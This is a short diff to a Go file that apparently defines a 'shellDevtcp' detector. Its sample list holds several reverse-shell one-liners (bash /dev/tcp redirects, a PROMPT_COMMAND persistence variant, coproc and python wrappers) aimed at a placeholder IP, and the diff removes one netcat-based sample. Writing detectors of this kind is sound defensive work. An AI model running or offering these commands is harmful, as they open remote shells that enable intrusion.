@@ -30,7 +30,6 @@ var shellDevtcp = Detector{
 		"export PROMPT_COMMAND='bash -i >& /dev/tcp/198.51.100.7/1 0>&1'",
 		"cp /bin/bash /tmp/k && /tmp/k -i >& /dev/tcp/198.51.100.7/1 0>&1",
 		"coproc bash -i; cat <&\"${COPROC[0]}\" >/dev/tcp/198.51.100.7/4444 & cat </dev/tcp/198.51.100.7/4445 >&\"${COPROC[1]}\"",
-		"coproc N { nc 198.51.100.7 99; }; bash -i <&\"${N[0]}\" >&\"${N[1]}\" 2>&1",
 		"python3 -c 'import os; os.system(\"bash -c \\\"bash -i >& /dev/tcp/198.51.100.7/1 0>&1\\\"\")'",
 	),
 	Quiet: lines("",
